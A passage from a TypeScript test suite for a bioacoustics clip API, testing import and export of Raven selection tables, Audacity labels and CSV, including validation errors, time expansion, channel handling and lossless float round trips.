      { field: "line 3, End Time (s)", message: "30 s (real) must be <= the recording's duration (4 s)" },
      { field: "line 4, Channel", message: "3 is no channel of stereo.wav, which has 2" },
      { field: "line 5, High Freq (Hz)", message: "30000 Hz (real) must be <= the recording's Nyquist frequency (4000 Hz)" },
    ]);
    expect(await clipsOf(ids.stereo)).toEqual([]);
    // A dataset's table: a row of no file of the dataset among them.
    const dataset = [
      "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tBegin File\tFile Offset (s)",
      "1\tSpectrogram 1\t1\tx\t2\tstereo.wav\t1",
      "2\tSpectrogram 1\t1\t1\t2\tmissing.wav\t1",
      "3\tSpectrogram 1\t1\t1\t30\tstereo.wav\t1",
    ].join("\n");
    const refused = await importText(`dataset_id=${ids.dataset}`, dataset);
    expect(refused.statusCode, refused.body).toBe(400);
    expect(refused.json().fields).toEqual([
      { field: "line 2, Begin Time (s)", message: "'x' is not a number of seconds" },
      { field: "line 3, Begin File", message: "'missing.wav' is no recording of the dataset (no file of that name)" },
      { field: "line 4, End Time (s)", message: "30 s (real) must be <= the recording's duration (4 s)" },
    ]);
    // An Audacity label track alike, its faults in the order of its lines.
    const labels = await importText(`recording_id=${ids.stereo}`, "1\t30\tpip\n0\tx\tpip\n");
    expect(labels.statusCode, labels.body).toBe(400);
    expect(labels.json().fields).toEqual([
      { field: "line 1, end", message: "30 s (real) must be <= the recording's duration (4 s)" },
      { field: "line 2, end", message: "'x' is not a number of seconds" },
    ]);
    expect(await clipsOf(ids.stereo)).toEqual([]);
  });

  it("reads a time-expanded recording's table in real units, or the file's with times=file", async () => {
    const text = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\n1\tSpectrogram 1\t1\t2\t5\t1000\t3000\n";
    const real = await importText(`recording_id=${ids.te}`, text);
    expect(real.statusCode, real.body).toBe(400);
    expect(real.json().fields).toEqual([
      { field: "line 2, Begin Time (s)", message: "2 s (real) must be < the recording's duration (1 s); times are real seconds: time expansion 10 (the recording's time_expansion) makes the file's 10 s last 1 s (a table of the file as stored, in its own seconds: import with times=file)" },
      { field: "line 2, End Time (s)", message: "5 s (real) must be <= the recording's duration (1 s); times are real seconds: time expansion 10 (the recording's time_expansion) makes the file's 10 s last 1 s (a table of the file as stored, in its own seconds: import with times=file)" },
    ]);
    const file = await importText(`recording_id=${ids.te}&times=file`, text);
    expect(file.statusCode, file.body).toBe(200);
    const [clip] = await clipsOf(ids.te);
    expect([clip.start_time, clip.end_time, clip.low_freq, clip.high_freq, clip.features]).toEqual([0.2, 0.5, 10000, 30000, []]);
    // Exported in the file's units, the table is the one imported.
    const exported = await app.inject({ url: `/v1/clips/export?recording_id=${ids.te}&times=file` });
    const row = exported.body.split("\n")[1].split("\t");
    expect(row.slice(3, 7)).toEqual(["2.000000000", "5.000000000", "1000.000", "3000.000"]);
  });

  it("finds a dataset's rows' recordings by Begin Path (a path of another machine) or Begin File, naming each file it cannot", async () => {
    const header = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tBegin Path\tFile Offset (s)\tBegin File\tSpecies";
    const ok = [header,
      "1\tSpectrogram 1\t1\t0.5\t1\tC:\\field\\bats\\site A\\x.wav\t0.5\tx.wav\tA",
      // A multi-file table: Begin Time counts from the first file, File Offset from the row's own.
      "2\tSpectrogram 1\t1\t4.5\t5\t/mnt/bats/site B/x.wav\t0.5\tx.wav\tB",
      "3\tSpectrogram 1\t1\t20\t21\t\t3\ta1.wav\tC",
    ].join("\n");
    const res = await importText(`dataset_id=${ids.dataset}`, ok);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().rows.map((r: { recording_id: string }) => r.recording_id)).toEqual([ids.xa, ids.xb, ids.a1]);
    expect((await clipsOf(ids.xb)).map((c: { start_time: number; end_time: number }) => [c.start_time, c.end_time])).toEqual([[0.5, 1]]);
    expect((await clipsOf(ids.a1)).some((c: { start_time: number; end_time: number }) => c.start_time === 3 && c.end_time === 4)).toBe(true);

    const bad = [header,
      "1\tSpectrogram 1\t1\t0.5\t1\t\t0.5\tx.wav\tA",
      "2\tSpectrogram 1\t1\t0.5\t1\t/elsewhere/site C/x.wav\t0.5\tx.wav\tA",
      "3\tSpectrogram 1\t1\t0.5\t1\t\t0.5\tmissing.wav\tA",
    ].join("\n");
    const refused = await importText(`dataset_id=${ids.dataset}`, bad);
    expect(refused.statusCode, refused.body).toBe(400);
    expect(refused.json().fields).toEqual([
      { field: "line 2, Begin File", message: "'x.wav' names 2 recordings of the dataset (site A/x.wav, site B/x.wav): give a Begin Path column to tell them apart" },
      { field: "line 3, Begin Path", message: "'/elsewhere/site C/x.wav' is no recording of the dataset (none of its recordings' paths ends it; of that name it has site A/x.wav, site B/x.wav)" },
      { field: "line 4, Begin File", message: "'missing.wav' is no recording of the dataset (no file of that name)" },
    ]);
    // Into one recording, a table naming several files is refused: its rows belong to several.
    const one = await importText(`recording_id=${ids.a1}`, ok);
    expect(one.statusCode).toBe(400);
    expect(one.json().fields[0]).toMatchObject({ field: "recording_id", message: expect.stringMatching(/^the table's rows name 3 files .*: import it into their dataset \(dataset_id\)/) });
  });

  it("exports Raven's header as Raven writes it, with tags and features as columns, and a re-import of the export (Raven or CSV) creates nothing", async () => {
    const text = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies\n"
      + "1\tSpectrogram 1\t1\t0.1\t0.3\t100\t200\tMyotis\n2\tSpectrogram 1\t1\t0.7\t0.9\t300\t400\tNyctalus\n";
    expect((await importText(`recording_id=${ids.round}`, text)).json().created).toBe(2);
    // A clip made otherwise, with two values of one key and a feature value.
    const other = await post("/v1/clips", { recording_id: ids.round, start_time: 5, end_time: 6 });
    await post(`/v1/clips/${other.id}/tags`, { key: "Species", value: "Eptesicus" });
    await post(`/v1/clips/${other.id}/tags`, { key: "Species", value: "Vespertilio" });
    await post(`/v1/clips/${other.id}/features`, { name: "rms_dbfs", value: -12.5 });

    const raven = await app.inject({ url: `/v1/clips/export?recording_id=${ids.round}&features=all` });
    expect(raven.statusCode, raven.body).toBe(200);
    expect(raven.headers["content-type"]).toBe("text/plain; charset=utf-8");
    expect(raven.headers["content-disposition"]).toMatch(/filename="round\.Table\.1\.selections\.txt"/);
    const lines = raven.body.split("\n");
    expect(lines[0]).toBe("Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tBegin Path\tFile Offset (s)\tBegin File\tClip ID\tSpecies\tfeature:rms_dbfs");
    expect(lines.slice(1, 4).map((l) => l.split("\t").filter((_, i) => i !== 10))).toEqual([
      ["1", "Spectrogram 1", "1", "0.100000000", "0.300000000", "100.000", "200.000", "round.wav", "0.100000000", "round.wav", "Myotis", ""],
      ["2", "Spectrogram 1", "1", "0.700000000", "0.900000000", "300.000", "400.000", "round.wav", "0.700000000", "round.wav", "Nyctalus", ""],
      // No bounds: empty cells, not 0 and the Nyquist frequency, which a re-import would store.
      ["3", "Spectrogram 1", "1", "5.000000000", "6.000000000", "", "", "round.wav", "5.000000000", "round.wav", "Eptesicus; Vespertilio", "-12.5"],
    ]);
    expect(lines[3].split("\t")[10]).toBe(other.id);
    const csv = await app.inject({ url: `/v1/clips/export?recording_id=${ids.round}&format=csv&tag_key=Species&tag_value=Myotis` });
    expect(csv.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(csv.body.split("\r\n")[1]).toMatch(/^1,Spectrogram 1,1,0\.100000000,0\.300000000,100\.000,200\.000,round\.wav,0\.100000000,round\.wav,[0-9a-f-]{36},Myotis$/);

    const before = (await clipsOf(ids.round)).length;
    for (const [body, type] of [[raven.body, "text/plain"], [csv.body, "text/csv"]]) {
      const back = await importText(`recording_id=${ids.round}`, body, type);
      expect(back.statusCode, back.body).toBe(200);
      // Clip ID too: the rows' clips were found by their times and bands, not by it.
      expect(back.json()).toMatchObject({ created: 0, tags_added: 0, ignored_columns: type === "text/plain" ? ["Clip ID", "feature:rms_dbfs"] : ["Clip ID"], warnings: [] });
    }
    // The cell "Eptesicus; Vespertilio" is the clip's two tags, not a third.
    expect((await app.inject({ url: `/v1/clips/${other.id}` })).json().tags).toEqual([{ key: "Species", value: "Eptesicus" }, { key: "Species", value: "Vespertilio" }]);
    // Through the dataset too: Begin Path names the recording.
    expect((await importText(`dataset_id=${ids.dataset}`, raven.body)).json()).toMatchObject({ created: 0, existing: 3 });
    // A multi-file table's row: its end is File Offset + the selection's length, 0.1 + (10.3 − 10.1)
    // = 0.30000000000000104 in floating point — the clip [0.1, 0.3) all the same (to the microsecond).
    const offset = "Begin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tFile Offset (s)\tBegin File\n10.1\t10.3\t100\t200\t0.1\tround.wav\n";
    expect((await importText(`dataset_id=${ids.dataset}`, offset)).json()).toMatchObject({ created: 0, existing: 1 });
    expect(await clipsOf(ids.round)).toHaveLength(before);
    // The clip without bounds gained none from the round trip.
    expect((await app.inject({ url: `/v1/clips/${other.id}` })).json()).toMatchObject({ low_freq: null, high_freq: null, features: [{ name: "rms_dbfs", value: -12.5 }] });
  });

  it("writes times with Raven's fixed decimals (no exponent, no binary tail), refuses a Channel tag that is no channel, caps the feature columns and refuses a feature no value has", async () => {
    const tiny = await post("/v1/clips", { recording_id: ids.fmt, start_time: 1e-7, end_time: 0.30000000000000004 });
    const body = (await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}` })).body;
    expect(body.split("\n")[1].split("\t").slice(3, 5)).toEqual(["0.000000100", "0.300000000"]);
    expect((await importText(`recording_id=${ids.fmt}`, body)).json()).toMatchObject({ created: 0, existing: 1 });
    const names = Array.from({ length: 101 }, (_, i) => `f${i}`).join(",");
    const many = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&features=${names}` });
    expect([many.statusCode, many.json().fields]).toEqual([400, [{ field: "features", message: "names 101 features, more than the limit of 100 columns per export: name the features to export" }]]);
    // A name no feature value has is refused, naming it: it wrote an empty column `feature:nope`.
    await post(`/v1/clips/${tiny.id}/features`, { name: "rms_dbfs", value: -20 });
    const unknown = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&features=rms_dbfs,nope,duration` });
    expect([unknown.statusCode, unknown.json().fields]).toEqual([400, [{ field: "features", message: expect.stringMatching(/^names 'nope', 'duration', which no feature value has and no job computes \(the features named: [^;)]*\brms_dbfs\b[^;)]*; jobs compute duration_s, rms_dbfs, .*, snr_db\)$/) }]]);
    const known = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&features=rms_dbfs` });
    expect([known.statusCode, known.body.split("\n")[0].split("\t").at(-1)]).toEqual([200, "feature:rms_dbfs"]);
    // A feature jobs compute is named before any value of it exists (a pipeline's export ahead of its first job): an empty column.
    expect((await t.db.sql`SELECT 1 FROM feature_names WHERE name = 'zero_crossing_rate'`).length).toBe(0);
    const computable = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&features=zero_crossing_rate` });
    expect([computable.statusCode, computable.body.split("\n")[0].split("\t").at(-1)]).toEqual([200, "feature:zero_crossing_rate"]);
    // log_mel, which jobs compute too, is 64 numbers a clip: its column would be empty on every row.
    const mel = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&features=rms_dbfs,log_mel` });
    expect([mel.statusCode, mel.json().fields]).toEqual([400, [{ field: "features", message: "names log_mel, 64 numbers a clip, not one: a table cell holds one number; a job's log_mel.npy artifact has the vectors (sonotile jobs download)" }]]);
    await post(`/v1/clips/${tiny.id}/tags`, { key: "Channel", value: "left" });
    const refused = await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}` });
    expect([refused.statusCode, refused.json().message]).toEqual([409, `clip ${tiny.id} carries the tag Channel = left, which is not one channel (a whole number from 1): the table's Channel column places it — correct the tag to export`]);
  });

  it("refuses a recording's table naming another file, a multi-file table without File Offset (s), and names the line of a merged row's bad frequency", async () => {
    const other = await importText(`recording_id=${ids.a1}`, "Begin Time (s)\tEnd Time (s)\tBegin File\n0\t1\tround.wav\n");
    expect([other.statusCode, other.json().fields]).toEqual([400, [{ field: "line 2, Begin File", message: "'round.wav' is not the recording's file (a1.wav): import the table into the recording it names" }]]);
    expect((await importText(`recording_id=${ids.a1}`, "Begin Time (s)\tEnd Time (s)\tBegin Path\n0.25\t0.5\tC:\\data\\a1.wav\n")).statusCode).toBe(200);
    const noOffset = await importText(`dataset_id=${ids.dataset}`, "Begin Time (s)\tEnd Time (s)\tBegin File\n0\t1\ta1.wav\n10.5\t11\tround.wav\n");
    expect([noOffset.statusCode, noOffset.json().fields[0].field]).toEqual([400, "File Offset (s)"]);
    const merged = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\n1\tWaveform 1\t1\t2\t3\t0\t4000\n1\tSpectrogram 1\t1\t2\t3\t100\t9000\n";
    expect((await importText(`recording_id=${ids.a1}`, merged)).json().fields).toEqual([{ field: "line 3, High Freq (Hz)", message: "9000 Hz (real) must be <= the recording's Nyquist frequency (4000 Hz)" }]);
  });

  it("answers a table's first 100 faults and the count of the rest, as the CLI says them — a fix in one pass (the API's cap of 20 fields had cut them, counting the table's own count as one)", async () => {
    const res = await importText(`recording_id=${ids.a1}`, "Begin Time (s)\tEnd Time (s)\n" + "abc\t1\n".repeat(150));
    expect(res.statusCode).toBe(400);
    const fields = res.json().fields as { field: string; message: string }[];
    expect(fields).toHaveLength(101);
    expect(fields[99]).toEqual({ field: "line 101, Begin Time (s)", message: "'abc' is not a number of seconds" });
    expect(fields[100]).toEqual({ field: "table", message: "and 50 more faults" });
    expect(res.json().message).toMatch(/; table: and 50 more faults$/);
  });

  it("decodes a UTF-16 table by its byte-order mark (Excel's Unicode Text), and refuses one without it naming UTF-16", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n6\t6.5\tBarbastelle d'Europe \u00e9\n";
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const be = Buffer.from(le.subarray(2)).swap16();
    for (const body of [le, Buffer.concat([Buffer.from([0xfe, 0xff]), be])]) {
      const res = await app.inject({ method: "POST", url: `/v1/clips/import?recording_id=${ids.fmt}`, payload: body, headers: { ...headers, "content-type": "text/plain" } });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().rows).toHaveLength(1);
    }
    expect((await clipsOf(ids.fmt)).find((c: { start_time: number }) => c.start_time === 6).tags).toEqual([{ key: "Species", value: "Barbastelle d'Europe \u00e9" }]);
    const bare = await app.inject({ method: "POST", url: `/v1/clips/import?recording_id=${ids.fmt}`, payload: le.subarray(2), headers: { ...headers, "content-type": "text/plain" } });
    expect([bare.statusCode, bare.json().fields[0].field, bare.json().fields[0].message]).toEqual([400, "table", expect.stringMatching(/UTF-16 without its byte-order mark/)]);
  });

  it("tells channels apart: a clip per channel, in the tag Channel (channel 1's too, of a recording with two), exported in Raven's Channel column", async () => {
    const text = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\n1\tSpectrogram 1\t1\t1\t2\n2\tSpectrogram 1\t2\t1\t2\n";
    const res = await importText(`recording_id=${ids.stereo}`, text);
    expect(res.json()).toMatchObject({ created: 2 });
    expect((await clipsOf(ids.stereo)).map((c: { tags: unknown }) => c.tags)).toEqual(expect.arrayContaining([[{ key: "Channel", value: "1" }], [{ key: "Channel", value: "2" }]]));
    expect((await importText(`recording_id=${ids.stereo}`, text)).json()).toMatchObject({ created: 0, existing: 2, tags_added: 0 });
    const exported = (await app.inject({ url: `/v1/clips/export?recording_id=${ids.stereo}` })).body.split("\n").slice(1, 3).map((l) => l.split("\t")[2]);
    expect(exported.sort()).toEqual(["1", "2"]);
  });

  it("leaves a clip without a Channel tag on a multi-channel recording untagged through an export and its re-import (its row's Channel 1 added Channel = 1, and a job on channel 2 refused the clip)", async () => {
    const clip = await post("/v1/clips", { recording_id: ids.stereo, start_time: 2.5, end_time: 3 });
    await post(`/v1/clips/${clip.id}/tags`, { key: "Species", value: "Myotis" });
    for (const format of ["raven", "csv"]) {
      const exported = await app.inject({ url: `/v1/clips/export?recording_id=${ids.stereo}&format=${format}` });
      const row = exported.body.split(/\r?\n/).find((l) => l.includes(clip.id))!;
      // Raven reads a channel number in every row: the clip's is written 1, as a clip without the tag is read.
      expect(row.split(format === "raven" ? "\t" : ",").slice(2, 5)).toEqual(["1", "2.500000000", "3.000000000"]);
      for (const into of [`recording_id=${ids.stereo}`, `dataset_id=${ids.dataset}`]) {
        const back = await importText(into, exported.body, format === "raven" ? "text/plain" : "text/csv");
        expect(back.json(), back.body).toMatchObject({ created: 0, tags_added: 0 });
      }
    }
    expect((await app.inject({ url: `/v1/clips/${clip.id}` })).json().tags).toEqual([{ key: "Species", value: "Myotis" }]);
    // A row of the clip's that is no export of it (no Clip ID, or another clip's) says channel 1: the clip gains the tag.
    const written = await importText(`recording_id=${ids.stereo}`, `Channel\tBegin Time (s)\tEnd Time (s)\tClip ID\n1\t2.5\t3\t${randomUUID()}\n`);
    expect(written.json()).toMatchObject({ created: 0, existing: 1, tags_added: 1 });
    expect((await app.inject({ url: `/v1/clips/${clip.id}` })).json().tags).toEqual([{ key: "Channel", value: "1" }, { key: "Species", value: "Myotis" }]);
  });

  it("names every fault of every row in one 400 — a cell that is no number beside a High Freq above the Nyquist frequency — and takes a Waveform row's 0 and 0", async () => {
    const text = [
      "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies",
      "1\tSpectrogram 1\t1\t0.2\t0.25\t1000\t2000\tLabl",
      "1\tWaveform 1\t1\t0.2\t0.25\t0\t0\tLabl",
      "2\tSpectrogram 1\t2\t0.3\t0.35\t1000\t2000\tLabl",
      "3\tSpectrogram 1\t1\t0.4\tabc\t1000\t30000\tLabl",
      "4\tSpectrogram 1\t3\tx\t0.5\t1000\t2000\tLabl",
    ].join("\r\n");
    const res = await importText(`recording_id=${ids.stereo}`, text);
    expect([res.statusCode, res.json().fields]).toEqual([400, [
      { field: "line 5, End Time (s)", message: "'abc' is not a number of seconds" },
      { field: "line 5, High Freq (Hz)", message: "30000 Hz (real) must be <= the recording's Nyquist frequency (4000 Hz)" },
      { field: "line 6, Begin Time (s)", message: "'x' is not a number of seconds" },
      { field: "line 6, Channel", message: "3 is no channel of stereo.wav, which has 2" },
    ]]);
    const fixed = await importText(`recording_id=${ids.stereo}`, text.split("\r\n").slice(0, 4).join("\r\n"));
    expect(fixed.json(), fixed.body).toMatchObject({ created: 2, existing: 0 });
    const clips = await clipsOf(ids.stereo);
    expect(fixed.json().rows.map((r: { clip_id: string }) => clips.find((c: { id: string }) => c.id === r.clip_id)).map((c: { start_time: number; low_freq: number; high_freq: number }) => [c.start_time, c.low_freq, c.high_freq])).toEqual([[0.2, 1000, 2000], [0.3, 1000, 2000]]);
  });

  it("matches active clips only: a re-import beside an archived or trashed clip creates a new one, leaving the hidden one whole; refuses (409) to export a tag key that is a column of the table's own", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n3\t3.5\tA\n";
    for (const hide of ["archive", "trash"]) {
      const [row] = (await importText(`recording_id=${ids.stereo}`, text)).json().rows;
      expect(row.status).toBe("created");
      expect((await app.inject({ method: "POST", url: `/v1/clips/${row.clip_id}/${hide}`, headers })).statusCode).toBe(200);
      const clip = (await app.inject({ url: `/v1/clips/${row.clip_id}` })).json();
      expect(clip.tags).toEqual([{ key: "Channel", value: "1" }, { key: "Species", value: "A" }]);
    }
    const again = await importText(`recording_id=${ids.stereo}`, text.replace("\tA\n", "\tB\n"));
    expect(again.json()).toMatchObject({ created: 1, existing: 0, tags_added: 0 });
    expect((await clipsOf(ids.stereo)).filter((c: { start_time: number }) => c.start_time === 3).map((c: { state: string }) => c.state).sort()).toEqual(["active", "archived", "trashed"]);
    await post(`/v1/clips`, { recording_id: ids.stereo, start_time: 0, end_time: 0.5 }).then((c) => post(`/v1/clips/${c.id}/tags`, { key: "View", value: "mine" }));
    const refused = await app.inject({ url: `/v1/clips/export?recording_id=${ids.stereo}` });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe("the clips carry tags of key 'View', which is a column of the table's own: rename those tags to export them");
  });

  it("refuses (409) an export of more columns than an import reads (MAX_TABLE_COLUMNS), naming the tag keys — clips of many keys made an export of any size", async () => {
    await writeSineWav(join(dir.path, "wide.wav"), 8000, 2);
    const wide = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "wide.wav" })).id;
    const keys = Array.from({ length: MAX_TABLE_COLUMNS - 11 }, (_, i) => `k${i}`);
    const text = (n: number) => `Begin Time (s)\tEnd Time (s)\t${keys.slice(0, n).join("\t")}\n0\t1\t${keys.slice(0, n).map(() => "v").join("\t")}\n`;
    expect((await importText(`recording_id=${wide}`, text(keys.length))).statusCode).toBe(200);
    const exported = await app.inject({ url: `/v1/clips/export?recording_id=${wide}` });
    expect(exported.statusCode, exported.body).toBe(200);
    expect(exported.body.split("\n")[0].split("\t")).toHaveLength(MAX_TABLE_COLUMNS);
    await post(`/v1/clips/${(await clipsOf(wide))[0].id}/tags`, { key: "one more", value: "v" });
    const refused = await app.inject({ url: `/v1/clips/export?recording_id=${wide}&format=csv` });
    expect([refused.statusCode, refused.json().message]).toEqual([409, `the clips carry ${keys.length + 1} tag keys: with the table's 11 columns that is ${MAX_TABLE_COLUMNS + 1} columns, more than the ${MAX_TABLE_COLUMNS} a table may have: export fewer clips (tag_key, tag_value, start_before, end_after, min_freq, max_freq) or fewer features`]);
  });

  it("answers 400 naming the parameter, 404 for an unknown recording, 413 naming the body limit", async () => {
    const table = "Begin Time (s)\tEnd Time (s)\n0\t1\n";
    const both = await importText(`recording_id=${ids.a1}&dataset_id=${ids.dataset}`, table);
    expect(both.statusCode).toBe(400);
    expect(both.json().fields).toEqual([{ field: "recording_id", message: "give exactly one of recording_id and dataset_id" }]);
    expect((await importText("recording_id=00000000-0000-4000-8000-000000000000", table)).statusCode).toBe(404);
    expect((await app.inject({ url: "/v1/clips/export?dataset_id=00000000-0000-4000-8000-000000000000" })).statusCode).toBe(404);
    const audacity = await importText(`dataset_id=${ids.dataset}`, "0\t1\tpip\n");
    expect(audacity.json().fields).toEqual([{ field: "format", message: "an Audacity label track names no file: import it into its recording (recording_id)" }]);
    const large = await importText(`recording_id=${ids.a1}`, table + "x".repeat(8 * 1024 * 1024));
    expect(large.statusCode).toBe(413);
    expect(large.json().message).toBe(`request body is larger than the limit of ${8 * 1024 * 1024} bytes`);
    const other = await app.inject({ method: "POST", url: `/v1/clips?x=1`, payload: table, headers: { ...headers, "content-type": "text/plain" } });
    expect(other.statusCode, "other routes keep refusing text").toBe(415);
    expect(other.json().message).toBe("a body of Content-Type text/plain is not accepted: send it as JSON with Content-Type: application/json");
    // `curl --data-binary @table.txt` without -H sends a form's type.
    const form = await importText(`recording_id=${ids.a1}`, table, "application/x-www-form-urlencoded");
    expect(form.statusCode).toBe(415);
    expect(form.json().message).toBe("a body of Content-Type application/x-www-form-urlencoded is not accepted: send it with a Content-Type of application/json, text/plain, text/tab-separated-values, text/csv");
  });

  it("imports a table of no selections (its header alone) into its recording creating nothing, as into its dataset — it answered 404, the recording not found", async () => {
    const header = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\n";
    const before = (await clipsOf(ids.fmt)).length;
    for (const query of [`recording_id=${ids.fmt}`, `dataset_id=${ids.dataset}`]) {
      const res = await importText(query, header);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toMatchObject({ format: "raven", created: 0, existing: 0, rows: [], run: { status: "completed" } });
    }
    expect(await clipsOf(ids.fmt)).toHaveLength(before);
    expect((await importText("recording_id=00000000-0000-4000-8000-000000000000", header)).statusCode).toBe(404);
  });

  it("takes a recording's id in capitals as the recording's (a UUID is case-insensitive) — it answered 404, the recording not found", async () => {
    const res = await importText(`recording_id=${ids.fmt.toUpperCase()}`, "Begin Time (s)\tEnd Time (s)\n8.5\t8.75\n");
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ created: 1, rows: [{ line: 2, recording_id: ids.fmt, status: "created" }] });
    const clip = (await clipsOf(ids.fmt)).find((c: { start_time: number }) => c.start_time === 8.5);
    expect([clip.recording_id, clip.end_time]).toEqual([ids.fmt, 8.75]);
  });

  it("matches a time on a half microsecond to its clip: importing such a table again creates nothing", async () => {
    // 0.2500005 s × 1e6 is 250000.5 exactly: rounded by Math.round to 250001, by PostgreSQL's
    // round(float8) to the even 250000 — the lookup rounded in SQL and missed the clip.
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n0.2500005\t0.5000025\tA\n";
    expect((await importText(`recording_id=${ids.fmt}`, text)).json()).toMatchObject({ created: 1 });
    expect((await importText(`recording_id=${ids.fmt}`, text)).json()).toMatchObject({ created: 0, existing: 1 });
    expect((await clipsOf(ids.fmt)).filter((c: { start_time: number }) => c.start_time === 0.2500005)).toHaveLength(1);
  });

  it("re-imports an export creating nothing, whatever the clips' times (drawn at random, near half microseconds too), frequency bounds and TE", async () => {
    const rand = random(20261206);
    await writeSineWav(join(dir.path, "times.wav"), 8000, 10);
    await writeSineWav(join(dir.path, "times-te.wav"), 8000, 10);
    const plain = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "times.wav" })).id;
    const expanded = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "times-te.wav" })).id;
    expect((await app.inject({ method: "PATCH", url: `/v1/recordings/${expanded}`, payload: { time_expansion: 10 }, headers })).statusCode).toBe(200);
    // Clips as the viewer draws them (any double), as SQL stores them: half uniform, half within
    // a nanosecond ÷ TE of a half microsecond — where an export's 9 decimals (of the time × TE)
    // can move a time across it; the rounded identity gave such a time a new clip.
    const draw = (seconds: number, te: number) => {
      const time = (near: boolean, span: number) => near ? (Math.floor(rand() * span * 1e6) + 0.5) / 1e6 + (rand() - 0.5) * 2e-9 / te : rand() * span;
      return Array.from({ length: 400 }, (_, i) => { const start = time(i % 2 === 1, 0.9 * seconds); return [start, start + time(i % 4 === 1, 0.09 * seconds) + 0.001]; });
    };
    // Frequency bounds as drawn too (any double below Nyquist, real Hz), a quarter without, an
    // eighth with one alone or up to Nyquist: the export's millihertz (÷ TE with times=file) move them.
    const band = (i: number, nyquist: number): [number | null, number | null] => {
      const low = rand() * nyquist * 0.9, high = low + 1 + rand() * (nyquist - low - 1);
      return [[null, null], [low, high], [low, null], [null, high], [low, nyquist], [low, high], [low, high], [low, high]][i % 8] as [number | null, number | null];
    };
    for (const [recording, seconds, te] of [[plain, 10, 1], [expanded, 1, 10]] as const) {
      const clips = draw(seconds, te);
      const bands = clips.map((_, i) => band(i, 4000 * te));
      await t.db.sql`INSERT INTO clips (recording_id, start_time, end_time, low_freq, high_freq)
        SELECT ${recording}::uuid, s, e, l, h FROM unnest(${clips.map((c) => c[0])}::float8[], ${clips.map((c) => c[1])}::float8[], ${bands.map((b) => b[0])}::float8[], ${bands.map((b) => b[1])}::float8[]) AS n (s, e, l, h)`;
      for (const [times, format] of [["real", "raven"], ["file", "csv"]] as const) {
        const exported = await app.inject({ url: `/v1/clips/export?recording_id=${recording}&times=${times}&format=${format}` });
        expect(exported.statusCode, exported.body).toBe(200);
        const res = await importText(`recording_id=${recording}&times=${times}`, exported.body, format === "csv" ? "text/csv" : "text/plain");
        expect(res.statusCode, res.body).toBe(200);
        expect(res.json(), `${times} ${format}, TE ${te}`).toMatchObject({ created: 0, existing: 400, tags_added: 0 });
      }
      expect(await clipsOf(recording)).toHaveLength(400);
    }
  });

  it("writes a clip's two times (or bounds) that 9 (or 3) decimals would write as one number losslessly, in fixed notation: a clip 5e-324 s long and one of 0.3 ns export and re-import as themselves", async () => {
    await writeSineWav(join(dir.path, "lossless.wav"), 8000, 10);
    await writeSineWav(join(dir.path, "lossless-te.wav"), 8000, 40);
    const plain = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "lossless.wav" })).id;
    const expanded = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "lossless-te.wav" })).id;
    expect((await app.inject({ method: "PATCH", url: `/v1/recordings/${expanded}`, payload: { time_expansion: 10 }, headers })).statusCode).toBe(200);
    // 9 decimals wrote these times 0.000000000 / 0.000000000 and 1.000000000 / 1.000000000, 3 the
    // bounds 1000.000 / 1000.000: the import refused the whole table (End Time must be after Begin Time).
    const clips = [
      { start_time: 0, end_time: 5e-324 },
      { start_time: 1.0000000001, end_time: 1.0000000004 },
      { start_time: 2.5, end_time: 3, low_freq: 1000.0001, high_freq: 1000.0003 },
    ];
    for (const recording of [plain, expanded]) {
      for (const c of clips) await post("/v1/clips", { recording_id: recording, ...c });
    }
    const exported = await app.inject({ url: `/v1/clips/export?recording_id=${plain}&format=csv` });
    const cells = exported.body.trim().split("\r\n").slice(1).map((l) => l.split(",").slice(3, 9));
    expect(cells).toEqual([
      ["0.000000000", `0.${"0".repeat(323)}5`, "", "", "lossless.wav", "0.000000000"],
      ["1.0000000001", "1.0000000004", "", "", "lossless.wav", "1.0000000001"],
      ["2.500000000", "3.000000000", "1000.0001", "1000.0003", "lossless.wav", "2.500000000"],
    ]);
    expect(cells.map((r) => r.slice(0, 4).map((v) => (v === "" ? null : Number(v))))).toEqual(clips.map((c) => [c.start_time, c.end_time, c.low_freq ?? null, c.high_freq ?? null]));
    for (const recording of [plain, expanded]) {
      for (const [times, format] of [["real", "raven"], ["real", "csv"], ["file", "raven"], ["file", "csv"]] as const) {
        const table = await app.inject({ url: `/v1/clips/export?recording_id=${recording}&times=${times}&format=${format}` });
        expect(table.statusCode, table.body).toBe(200);
